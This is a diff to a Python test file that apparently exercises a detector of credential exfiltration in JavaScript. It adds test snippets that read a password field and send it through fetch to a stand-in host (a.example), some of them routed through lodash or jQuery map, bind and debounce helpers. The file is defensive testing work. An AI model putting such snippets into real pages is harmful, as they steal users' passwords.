@@ -51,6 +51,27 @@ def test_a_loop_over_a_list_of_elements() -> None:
     assert channels(code + "fetch('//a.example/' + s);")
 
 
+@pytest.mark.parametrize(
+    "taken",
+    [
+        "_.map(['pw'], function (i) { return document.getElementById(i).value; })",
+        "_.map([document.getElementById('pw')], function (e) { return e.value; })",
+        "$.map(document.getElementById('pw'), function (e) { return e.value; })",
+        "_.map(['user', 'pw'], function (i) { return document.getElementById(i).value; })",
+    ],
+)
+def test_a_library_calls_a_function_with_each_item_of_a_list(taken: str) -> None:
+    assert channels(f"fetch('//a.example', {{ body: {taken}.join() }});")
+    assert not channels(f"fetch('//a.example', {{ body: {taken.replace('pw', 'user')}.join() }});")
+    assert not channels(f"fetch('//a.example', {{ body: {taken.replace('map', 'zip')}.join() }});")
+
+
+@pytest.mark.parametrize("bound", ["_.bind(s, null)", "$.proxy(s, null)", "_.debounce(s, 100)"])
+def test_a_function_that_a_library_binds_is_called(bound: str) -> None:
+    assert channels(TAKEN + f"function s(v) {{ fetch('//a.example', v); }} {bound}(p);")
+    assert not channels(TAKEN + f"function s(v) {{ fetch('//a.example', v); }} {bound}(1);")
+
+
 _KEPT = 'document.cookie = "p=" + document.getElementById("pw").value;'
 
 
